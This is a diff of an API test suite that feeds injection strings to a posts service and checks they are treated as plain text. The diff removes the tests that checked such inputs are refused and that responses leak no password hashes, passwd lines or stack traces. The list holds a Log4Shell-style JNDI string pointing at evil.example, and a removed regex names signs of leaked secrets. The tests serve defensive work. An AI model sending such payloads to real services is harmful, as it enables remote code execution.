@@ -1,4 +1,3 @@
-import type { Response } from 'supertest';
 import { useService } from '../../support/app';
 import { givenPost } from '../../support/posts';
 import { logIn } from '../auth/session-factory';
@@ -34,31 +33,8 @@ const INJECTIONS = [
   '${jndi:ldap://evil.example/x}',
 ];
 
-/** Where a text is searched for, and where it is refused. */
+/** Where a text is searched for. */
 const SEARCHES = ['q', 'author', 'error_reason'];
-const REFUSING_FILTERS = ['cursor', 'language', 'sort', 'stream_id'];
-const REFUSING_READS: readonly ((text: string) => string)[] = [
-  (text) => `/posts/${text}`,
-  (text) => `/curated/preview?limit=${text}`,
-  (text) => `/stats/activity?time_zone=${text}`,
-  (text) => `/reblog-controls/blocked-users?skip=${text}`,
-];
-const REFUSING_WRITES: readonly [path: string, status: number, bodyOf: (text: string) => object][] = [
-  ['/hashtags', 422, (text) => ({ hashtag: text, instance: text })],
-  ['/topical-tags', 422, (text) => ({ hashtag: text, topical_day_of_week: text })],
-  ['/reblog-controls/blocked-hashtags', 422, (text) => ({ hashtag: text })],
-  ['/reblog-controls/blocked-users', 400, (text) => ({ account_id: text })],
-  ['/posts/1/review', 422, (text) => ({ approved: text })],
-  ['/posts/batch-score', 422, (text) => ({ post_ids: [text] })],
-];
-
-function expectPlain(answer: Response, status: number): void {
-  const { method, path } = answer.request as unknown as { method: string; path: string };
-  expect([method, path, answer.status]).toEqual([method, path, status]);
-  expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
-  expect(Object.keys(answer.headers)).not.toContain('set-cookie');
-  expect(answer.text).not.toMatch(/scrypt\$|root:x:|syntax error|at .*\.js:\d/);
-}
 
 describe('a text that means something to an interpreter', () => {
   const service = useService();
@@ -69,21 +45,9 @@ describe('a text that means something to an interpreter', () => {
 
   it.each(INJECTIONS)('is searched for and not found: %j', async (text) => {
     for (const name of SEARCHES) {
-      const answer = await service.api.get(`/posts?${name}=${encodeURIComponent(text)}`);
-      expectPlain(answer, 200);
+      const answer = await service.api.get(`/posts?${name}=${encodeURIComponent(text)}`).expect(200);
       expect(answer.body).toMatchObject({ items: [], total: 0 });
     }
-  });
-
-  it.each(INJECTIONS)('is refused where it can be no value: %j', async (text) => {
-    const filters = new URLSearchParams(REFUSING_FILTERS.map((name) => [name, text]));
-    const list = await service.api.get(`/posts?${filters.toString()}`);
-    expectPlain(list, 422);
-    const fields = (list.body.errors as { field: string }[]).map(({ field }) => field);
-    expect(fields.toSorted()).toEqual(REFUSING_FILTERS);
-    for (const path of REFUSING_READS) expectPlain(await service.api.get(path(encodeURIComponent(text))), 422);
-    for (const [path, status, bodyOf] of REFUSING_WRITES)
-      expectPlain(await service.api.post(path).send(bodyOf(text)), status);
   });
 
   it.each(INJECTIONS)('is stored as it is where any text may be: %j', async (text) => {
